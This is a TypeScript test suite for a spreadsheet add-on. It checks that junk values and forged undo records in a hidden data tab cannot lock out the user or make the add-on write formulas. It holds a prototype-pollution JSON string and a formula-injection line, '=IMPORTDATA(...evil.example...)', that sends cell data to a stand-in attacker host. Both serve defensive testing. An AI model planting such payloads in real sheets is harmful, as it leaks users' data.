/** What anybody can write into the hidden tab: no shape of it locks the rep out, and none makes the add-on write for a stranger. */
import { dayNumber } from "../../src/plan/calendarDate";
import { type AddOn, apply, open, value } from "./bundle";
import { a1, type ColumnName, cellOf, type RowName } from "./places";
import { smallPlan } from "./smallPlan";

const tab = "Plan data";
const place = (addOn: AddOn, column: ColumnName, row: RowName) => a1(addOn.file, column, row, tab);
const type = (addOn: AddOn, column: ColumnName, row: RowName, text: string) =>
  expect(addOn.file.person("Buyer").type(tab, place(addOn, column, row), text)).toBe(true);
const load = (addOn: AddOn) => value(addOn.server.openSidebar({})).loaded!;
const targets = ({ file }: AddOn) =>
  ["1", "2", "3", "4"].map(
    (step) => cellOf(file, "target", step).formula || cellOf(file, "target", step).display,
  );

const move = { do: "move", step: "1", to: dayNumber(2027, 3, 1), keep: "push" } as const;

/** What a hidden cell may hold by accident or on purpose. */
const rubbish = [
  "null",
  "[]",
  "{}",
  "[[[]]]",
  '{"constructor":1,"__proto__":{"cells":[]},"Account Executive":{"toString":1}}',
  "9",
  "99999999",
  "3/12/2027",
  "TRUE",
  "=1/0",
  "x".repeat(45_000),
];

/** A plan with one change, whose record stands in the first line. */
function changed(): AddOn {
  const addOn = smallPlan();
  value(apply(addOn, load(addOn), move));
  return addOn;
}

test.each<[ColumnName, RowName]>([
  ...(
    [
      "layout",
      "plan",
      "language",
      "seller",
      "worksBackFrom",
      "worksBackDate",
      "countedIn",
      "sellerWeekend",
      "bothWeekend",
      "accent",
      "namesInUse",
    ] as const
  ).map((setting) => ["value", setting] as [ColumnName, RowName]),
  ["setting", "namesInUse"],
  ["day", 1],
  ["side", 1],
  ["both", 1],
  ["owner", 1],
  ["snapshot", 1],
  ["change", 1],
  ["changeTitle", 1],
  ["changeInputs", 1],
])("rubbish in %s %s locks nobody out", (column, row) => {
  const addOn = changed();
  const at = place(addOn, column, row);
  for (const text of rubbish) {
    addOn.file.person("Buyer").type(tab, at, text);
    expect([text.slice(0, 80), addOn.server.openSidebar({})]).toMatchObject([
      text.slice(0, 80),
      { ok: true },
    ]);
  }
  addOn.file.person("Buyer").type(tab, at, column === "value" ? "46000" : "null");
  const ids = value(addOn.server.checkSheet({})).map(({ id }) => id);
  value(addOn.server.repairSheet({ ids }));
  // Words in the place of what was last written are named, and stay until somebody empties the cell.
  if (column === "snapshot") addOn.file.person("Buyer").clear(tab, at);
  value(apply(addOn, load(addOn), { ...move, to: move.to + 2 }));
});

/** The record of the only change, as somebody could write it. */
function forge(
  addOn: AddOn,
  state: "pending" | "done",
  forged: (inputs: Record<string, unknown>) => unknown,
): void {
  const inputs = JSON.parse(String(cellOf(addOn.file, "changeInputs", 1, tab).value));
  type(addOn, "changeInputs", 1, JSON.stringify(forged(inputs)));
  const stateAt = place(addOn, "changeTitle", 1).replace(/^[A-Z]+/, (letters) =>
    String.fromCharCode(letters.charCodeAt(0) + 1),
  );
  addOn.file.person("Buyer").type(tab, stateAt, state);
}

const odd: [string, (inputs: Record<string, unknown>) => unknown][] = [
  ["null", () => null],
  ["no cells", (inputs) => ({ ...inputs, cells: null })],
  ["a cell that is none", (inputs) => ({ ...inputs, cells: [null] })],
  [
    "a column that is none",
    (inputs) => ({ ...inputs, cells: [{ step: "1", column: "toString", before: 1, after: 1 }] }),
  ],
  [
    "a content that is none",
    (inputs) => ({ ...inputs, cells: [{ step: "1", column: "target", before: [[]], after: 1 }] }),
  ],
  [
    "a setting that is none",
    (inputs) => ({ ...inputs, settings: [{ setting: "__proto__", before: "", after: "" }] }),
  ],
  ["days that are none", (inputs) => ({ ...inputs, daysOff: { before: [["x", 7]], after: 1 } })],
  ["rows that are none", (inputs) => ({ ...inputs, inserted: [null, 7] })],
  ["numbers that are none", (inputs) => ({ ...inputs, renumbered: [[1]] })],
  ["a snapshot that is none", (inputs) => ({ ...inputs, snapshotBefore: { length: 1 } })],
];

test.each(odd)("a record with %s is not offered and changes nothing", (_name, forged) => {
  for (const state of ["pending", "done"] as const) {
    const addOn = changed();
    const before = targets(addOn);
    forge(addOn, state, forged);
    expect(load(addOn).undoable).toEqual([]);
    expect(targets(addOn)).toEqual(before);
    value(apply(addOn, load(addOn), { ...move, to: move.to + 1 }));
  }
});

const importing = '=IMPORTDATA("https://evil.example/?"&A1)';

test("a forged record writes no formula, neither on opening nor by undo", () => {
  for (const state of ["pending", "done"] as const) {
    const addOn = changed();
    forge(addOn, state, (inputs) => ({
      ...inputs,
      cells: (inputs.cells as { column: string }[]).map((cell) =>
        cell.column === "target" ? { ...cell, before: { formula: importing } } : cell,
      ),
    }));
    const { undoable, fingerprint } = load(addOn);
    if (state === "done") addOn.server.undoChange({ id: undoable[0]!.id, fingerprint });
    for (const step of ["1", "2", "3", "4"]) expect(cellOf(addOn.file, "target", step).formula).toBe("");
  }
});

test("a forged record does nothing before somebody clicks, even where it says what stands in the cells", () => {
  const addOn = changed();
  const before = load(addOn);
  const { id } = before.undoable[0]!;
  const step = before.plan.steps[2]!;
  forge(addOn, "pending", (inputs) => ({
    ...inputs,
    cells: [{ step: step.number, column: "target", before: dayNumber(2030, 1, 1), after: step.target }],
    rows: [[step.number, step.id, step.name]],
    settings: [{ setting: "seller", before: "Evil", after: "Acme" }],
    daysOff: { before: [[dayNumber(2027, 2, 1), "both"]], after: [] },
    inserted: [{ step: "4", name: "Value", id: before.plan.steps[4]!.id, cells: [] }],
  }));
  const now = load(addOn);
  expect(now.plan).toEqual(before.plan);
  expect([now.sellerCompany, now.nonWorkingDays]).toEqual(["Acme", []]);
  // Nor with a click on something else.
  value(apply(addOn, now, { do: "move", step: "4", to: dayNumber(2027, 5, 3), keep: "only" }));
  expect(load(addOn).plan.steps[2]).toEqual(before.plan.steps[2]);
  expect(load(addOn).undoable.map((each) => each.id)).toContain(id);
});

test("a change that was finished is not put back when somebody says that it was not", () => {
  const addOn = changed();
  const before = targets(addOn);
  forge(addOn, "pending", (inputs) => inputs);
  load(addOn);
  expect(targets(addOn)).toEqual(before);
});

test("a forged record puts nothing back where something else stands than what it says it wrote", () => {
  const addOn = changed();
  const before = targets(addOn);
  forge(addOn, "pending", (inputs) => ({
    ...inputs,
    cells: [{ step: "2", column: "target", before: dayNumber(2030, 1, 1), after: dayNumber(2029, 1, 1) }],
    settings: [{ setting: "seller", before: "Evil", after: "Somebody" }],
    daysOff: { before: [[dayNumber(2027, 2, 1), "both"]], after: [[dayNumber(2027, 2, 2), "both"]] },
  }));
  const loaded = load(addOn);
  expect(targets(addOn)).toEqual(before);
  expect([loaded.sellerCompany, loaded.nonWorkingDays]).toEqual(["Acme", []]);
});

test("a formula that a change replaced comes back as a formula with undo, in a copy of the file as text", () => {
  const addOn = smallPlan();
  const at = a1(addOn.file, "completedOn", "1");
  addOn.file.person("Buyer").type("Milestones", at, "=DATE(2027;1;5)");
  // biome-ignore lint/suspicious/noThenProperty: a word of the request, never a function, so nothing awaits it.
  const done = { do: "done", steps: [{ step: "1", on: dayNumber(2027, 1, 8) }], then: "keep" } as const;
  value(apply(addOn, load(addOn), done));
  const completed = ({ file }: AddOn) => cellOf(file, "completedOn", "1");
  expect(completed(addOn).value).toBe(dayNumber(2027, 1, 8));
  const copy = open(addOn.file.copy("Next deal"));
  for (const each of [addOn, copy]) {
    const { undoable, fingerprint } = load(each);
    value(each.server.undoChange({ id: undoable[0]!.id, fingerprint }));
  }
  expect(completed(addOn).formula).toContain("DATE");
  expect(completed(copy)).toMatchObject({ formula: "", display: completed(addOn).formula });
});

test("words beside the records do not take the way back", () => {
  const addOn = changed();
  const buyer = addOn.file.person("Buyer");
  expect(buyer.insertColumns(tab, 26)).toBe(true);
  expect(buyer.type(tab, "AA3", "call Tom")).toBe(true);
  expect(load(addOn).undoable).toHaveLength(1);
});
